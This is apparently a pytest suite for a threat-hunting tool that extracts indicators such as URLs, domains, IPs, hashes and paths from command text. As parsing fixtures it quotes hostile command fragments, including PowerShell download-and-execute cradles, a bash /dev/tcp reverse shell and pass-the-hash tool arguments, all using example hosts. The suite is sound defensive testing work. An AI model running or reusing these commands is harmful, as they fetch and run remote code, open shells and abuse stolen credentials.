import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.hunting import iocs
from app.hunting.features import scan


def found(*texts: str) -> dict[str, list[str]]:
    return {kind: list(values) for kind, values in iocs.extract(*texts).items() if values}


@pytest.mark.parametrize(
    ("code", "url"),
    [
        ("(New-Object Net.WebClient).DownloadFile('http://example.com/b.exe','c')", "http://example.com/b.exe"),
        ('$wc.DownloadString("https://192.0.2.7:8443/a/b.php?x=1&y=2#z")|iex', "https://192.0.2.7:8443/a/b.php?x=1&y=2#z"),
        ("iwr http://example.com/a.ps1 -OutFile a.ps1", "http://example.com/a.ps1"),
        ("iwr http://example.com/a.ps1;start a.ps1", "http://example.com/a.ps1"),
        ("IEX(iwr http://example.com/a.ps1)", "http://example.com/a.ps1"),
        ("curl http://example.com/a&calc", "http://example.com/a"),
        ("curl http://example.com/a&&calc", "http://example.com/a"),
        ("curl http://example.com/a?b=1&calc.exe", "http://example.com/a?b=1"),
        ("curl http://example.com/a?b=1&c=2&d", "http://example.com/a?b=1&c=2&d"),
        ("curl http://example.com/a^&b&calc", "http://example.com/a&b"),
        ("curl http://example.com/a?b=1^&c=2", "http://example.com/a?b=1&c=2"),
        ("wget http://example.com/a& sh a", "http://example.com/a"),
        ("<u>http://example.com/?a=1&amp;b=2</u>", "http://example.com/?a=1&b=2"),
        ("'http://us$er:p,w!@example.com/x'", "http://us$er:p,w!@example.com/x"),
        ("curl http://user:pa$$wd@example.com/x", "http://user:pa$$wd@example.com/x"),
        ('"http://$u:$p@example.com/x"', "http://example.com/x"),
        ("'http://example.com/a_(b)'", "http://example.com/a_(b)"),
        ("(see http://example.com/a_(b))", "http://example.com/a_(b)"),
        ("IEX(iwr http://example.com/a(b)c)", "http://example.com/a(b)c"),
        ("[http://example.com/a[0]]", "http://example.com/a[0]"),
        ("'http://[2001:db8::1]'", "http://[2001:db8::1]"),
        ("'http://example.com/a is bad'", "http://example.com/a"),
        ("'http://example.com/a.exe b.exe'", "http://example.com/a.exe"),
        ("curl http://example.com/%COMPUTERNAME%/x", "http://example.com/"),
        ('"x\\nhttp://example.com/a"', "http://example.com/a"),
        ("u=%22http://example.com/a", "http://example.com/a"),
        ("sftp://example.com/a", "sftp://example.com/a"),
        ("hxxps://example.com/a", "https://example.com/a"),
        ("see http://example.com/a, or (http://example.com/b).", "http://example.com/a"),
        ("'http://user:pw@example.com:8080/x'", "http://user:pw@example.com:8080/x"),
        ("'http://[2001:db8::1]:8080/x'", "http://[2001:db8::1]:8080/x"),
        ("'HTTP://EXAMPLE.com/Path'", "http://example.com/Path"),
        ('"http://example.com/$name.exe"', "http://example.com/"),
        ('"http://example.com/?u=" + $x', "http://example.com/?u="),
        ('"http://example.com/$($x)"', "http://example.com/"),
        ("'http://example.com/a b.exe','c'", "http://example.com/a%20b.exe"),
        ('"http://example.com/a.exe -o c.exe"', "http://example.com/a.exe"),
        ("\u201chttp://example.com/a\u201d", "http://example.com/a"),
        ("'http://3221225985/x'", "http://192.0.2.1/x"),
        ("'http://0xC0000201/x'", "http://192.0.2.1/x"),
        ("'http://0300.0.2.1/x'", "http://192.0.2.1/x"),
        ("`http://example.com/a`", "http://example.com/a"),
        ("hxxps://example[.]com/a", "https://example.com/a"),
        ("hXXp[:]//example(dot)com/a", "http://example.com/a"),
        ("'ftp://example.net/a.bin'", "ftp://example.net/a.bin"),
        ("'https://example.com/?next=http://example.org/a'", "https://example.com/?next=http://example.org/a"),
        (r'{"u":"http:\/\/example.com\/a","v":1}', "http://example.com/a"),
        ("'http://intranet/a.ps1'", "http://intranet/a.ps1"),
    ],
)  # fmt: skip
def test_url_ends_where_it_ends_in_code(code: str, url: str) -> None:
    assert found(code)["url"][0] == url


@pytest.mark.parametrize("separator", ["@", ",", ";", "|", "*"])
def test_url_lists_are_taken_apart(separator: str) -> None:
    text = separator.join(["'http://example.com/1", "http://example.org/2'.split('x')"])
    assert found(text)["url"] == ["http://example.com/1", "http://example.org/2"]


@pytest.mark.parametrize(
    "text",
    [
        "xhttp://example.com/x",
        '"http://x.$d.example.com/"',
        '"http://example.{0}/x"',
        "'http://example.' + $tld",
        "http://",
        "http://$host/x",
        "http://{0}/x",
        "http://a:99999/x",
        "http://-/",
        "://x",
    ],
)
def test_url_without_a_usable_host_is_none(text: str) -> None:
    assert "url" not in found(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("iwr http://example.co", {}),
        ("iwr http://example.com:80", {"domain": ["example.com"]}),
        ("iwr http://example.com/a", {"url": ["http://example.com/a"], "domain": ["example.com"]}),
        ("ping 192.0.2.1", {}),
        ("ping example.co", {}),
        ("iwr hxxp://example.co", {}),
    ],
)
def test_name_at_the_end_of_a_cut_off_text_may_be_half_a_name(
    text: str, expected: dict[str, list[str]]
) -> None:
    result: iocs.Iocs = {kind: {} for kind in iocs.KINDS}
    iocs.add_from(iocs.cut_off(scan(text.encode())), result)
    assert {kind: list(values) for kind, values in result.items() if values} == expected


def test_url_hosts_are_reported_too() -> None:
    text = "'http://example.com/a' 'http://192.0.2.1/b' 'http://[2001:db8::1]/c' 'http://nas/d'"
    assert found(text) == {
        "url": ["http://example.com/a", "http://192.0.2.1/b", "http://[2001:db8::1]/c", "http://nas/d"],
        "domain": ["example.com"],
        "ipv4": ["192.0.2.1"],
        "ipv6": ["2001:db8::1"],
    }  # fmt: skip


def test_url_with_padded_octets_stands_as_written_too() -> None:
    assert found("'http://192.0.002.01/x'") == {
        "url": ["http://192.0.002.01/x", "http://192.0.2.1/x"],
        "ipv4": ["192.0.2.1"],
    }


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ping 192.0.2.1 -t", {"ipv4": ["192.0.2.1"]}),
        ("192.0.2.1:443,198.51.100.2", {"ipv4": ["192.0.2.1", "198.51.100.2"]}),
        ("192[.]0[.]2[.]1", {"ipv4": ["192.0.2.1"]}),
        ("\\\\192.0.2.1\\c$\\a.exe", {"ipv4": ["192.0.2.1"], "path": ["\\\\192.0.2.1\\c$\\a.exe"]}),
        ("connect 2001:db8:0:0::1 now", {"ipv6": ["2001:db8::1"]}),
        ("ping www.example.com -n 1", {"domain": ["www.example.com"]}),
        ("'example.co.uk'", {"domain": ["example.co.uk"]}),
        ("mail bob@example.com", {"email": ["bob@example.com"], "domain": ["example.com"]}),
        ("bob[at]example[dot]com", {"email": ["bob@example.com"], "domain": ["example.com"]}),
        ("d41d8cd98f00b204e9800998ecf8427e", {"md5": ["d41d8cd98f00b204e9800998ecf8427e"]}),
        ("DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", {"sha1": ["da39a3ee5e6b4b0d3255bfef95601890afd80709"]}),
        (
            "SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855;",
            {"sha256": ["e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"]},
        ),
        ('start "$env:APPDATA\\a.exe"', {"path": ["$env:APPDATA\\a.exe"]}),
        ("%TEMP%\\a.vbs", {"path": ["%TEMP%\\a.vbs"]}),
        ("'C:\\Program Files\\a b\\c.exe'", {"path": ["C:\\Program Files\\a b\\c.exe"]}),
        ("C:\\\\Users\\\\x\\\\a.dll,Run", {"path": ["C:\\Users\\x\\a.dll"]}),
        ("'\\\\nas\\inv$\\$env:HOST.json'", {"path": ["\\\\nas\\inv$"]}),
        ("HKLM:\\Software\\Run", {"registry": ["HKLM\\Software\\Run"]}),
        ("HKEY_CURRENT_USER\\Software\\A;", {"registry": ["HKCU\\Software\\A"]}),
    ],
)  # fmt: skip
def test_kinds(text: str, expected: dict[str, list[str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "$mc.ps",
        "mc.ps",
        "[Drawing.Graphics]::FromImage($b)",
        "New-Object Drawing.Graphics",
        "Time.Day",
        "(Get-Date).Day",
        "$x.name = 5",
        "login-prompt.ps1",
        "New-Object System.Net.WebClient",
        "[sYsTeM.nEt.sErViCePoInTmAnAgEr]",
        "using namespace System.Net",
        "$stream.Read($bytes, 0, 5)",
        "script.py build.sh a.zip c.pl",
        "System.Management.Automation.AmsiUtils",
        "C:Windows/command.com",
        "chcp.com 65001 > $null",
        'CreateObject("wscript.shell")',
        "new ActiveXObject('adodb.stream')",
        "New-Object -ComObject shell.application",
        "x = sys.stdin.read",
        "wscript.shell",
        "scripting.filesystemobject",
        "msxml2.xmlhttp",
        '{"cr.company":"x"}',
        '{\\"cr.company\\":1}',
        "curl -o build.sh 192.0.2.1",
        "ping $x.name",
    ],
)
def test_code_is_not_taken_for_domains(text: str) -> None:
    assert "domain" not in found(text)


@pytest.mark.parametrize(
    ("text", "domain"),
    [
        ("nslookup evil.top", "evil.top"),
        ("nslookup -q=txt evil.top 192.0.2.1", "evil.top"),
        ("ping -n 1 evil.top", "evil.top"),
        ("ping -t evil.top", "evil.top"),
        ("curl evil.top/x", "evil.top"),
        ("curl -o a.exe evil.top/x", "evil.top"),
        ("curl.exe -s evil.sh", "evil.sh"),
        ("Test-NetConnection evil.top -Port 443", "evil.top"),
        ("tnc -ComputerName evil.top", "evil.top"),
        ("Resolve-DnsName -Name 'evil.top'", "evil.top"),
        ("Ping Example.Com", "example.com"),
        ("connect to Example.Com now", "example.com"),
        ('"$env:computername.example.com"', "example.com"),
        ('"x.$d.example.com"', "example.com"),
        ("nslookup $d.example.com", "example.com"),
        ("nslookup %USERNAME%.example.com", "example.com"),
        ('"$($d).example.com"', "example.com"),
        ("\\\\host.example.com@SSL\\DavWWWRoot\\x", "host.example.com"),
        ('{"example.com":1}', "example.com"),
    ],
)
def test_domain_without_a_scheme(text: str, domain: str) -> None:
    assert found(text)["domain"] == [domain]


@pytest.mark.parametrize(
    "text",
    [
        "Version=2.0.0.0, Culture=neutral",
        "Mozilla/5.0 (rv:11.0) Chrome/41.0.2228.0",
        "v1.2.3.4",
        "1.3.6.1.4.1.311",
        "C:\\Packages\\Plugin\\1.29.45.0\\run.exe",
        "300.1.2.3",
        "app-1.2.3.4.exe",
        "a1.2.3.4",
        "ver 1.2.3.4",
        "version 1.2.3.4",
        "-RequiredVersion '1.2.3.4'",
        "Mozilla/5.0.0.1",
        "Teams/1.2.3.4",
        "Newtonsoft.Json/1.2.3.4",
        "/opt/app/1.2.3.4/bin",
        "1.2.3",
    ],
)
def test_versions_are_not_taken_for_addresses(text: str) -> None:
    assert "ipv4" not in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "termsrv/{}",
        "TERMSRV/{}",
        "cifs/{}",
        "http/{}",
        "wsman/{}",
        "bash -i >& /dev/tcp/{}/443 0>&1",
        "mstsc /v:{}",
        "mstsc /v {}",
        "hydra -h{} -l x",
        "net use \\\\{}\\ipc$",
        "{}-{}",
        '"a\\n{}"',
    ],
)
def test_addresses_are_found_beside_services_and_options(text: str) -> None:
    assert found(text.replace("{}", "192.0.2.1"))["ipv4"] == ["192.0.2.1"]


@pytest.mark.parametrize(
    "text", ["a::b", "12:30:45", "[System.IO.File]::x", "dead::beef", "00:11:22:33:44:55:66:77"]
)
def test_code_and_times_are_not_taken_for_addresses(text: str) -> None:
    assert found(text) == {}


_HASH = "d41d8cd98f00b204e9800998ecf8427e"


@pytest.mark.parametrize(
    "text",
    [
        "MsiExec.exe -Embedding {} C",
        "asktgt /user:x /rc4:{} /ptt",
        "sekurlsa::pth /ntlm:{}",
        "/aes256:{}{}",
        "-hashes {}:{}",
        "-hashes :{}",
    ],
)
def test_hashes_of_passwords_are_none_of_files(text: str) -> None:
    assert found(text.replace("{}", _HASH)) == {}


def test_order_of_first_appearance_without_repetition() -> None:
    assert found("192.0.2.9 192.0.2.1", "192.0.2.9 198.51.100.1") == {
        "ipv4": ["192.0.2.9", "192.0.2.1", "198.51.100.1"]
    }


def test_shells_of_the_command_line_are_no_paths() -> None:
    assert found('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c dir') == {}


@given(st.text())
def test_any_text_gives_clean_values(text: str) -> None:
    for kind, values in iocs.extract(text).items():
        for value in values:
            assert value == value.strip()
            assert kind in ("path", "registry") or not re.search(r"[\s'\"|]", value)


_HOSTS = st.sampled_from(["example.com", "a-b.example.org", "192.0.2.44", "[2001:db8::5]"])
_PATHS = st.from_regex(r"/([a-z0-9_~%-]{1,9}/){0,3}[a-z0-9]{1,8}\.(exe|php|txt)", fullmatch=True)
_AROUND = st.sampled_from(
    ["'{}'", '"{}"', "('{}')", "iwr {} -o x", "({})", "{},'x'", "{};", "<{}>", "[uri]'{}'"]
)


@given(st.sampled_from(["http", "https"]), _HOSTS, st.integers(1, 65535), _PATHS, _AROUND)
def test_a_url_is_found_whole_in_any_code(
    scheme: str, host: str, port: int, path: str, around: str
) -> None:
    url = f"{scheme}://{host}:{port}{path}"
    assert found(around.format(url))["url"] == [url]
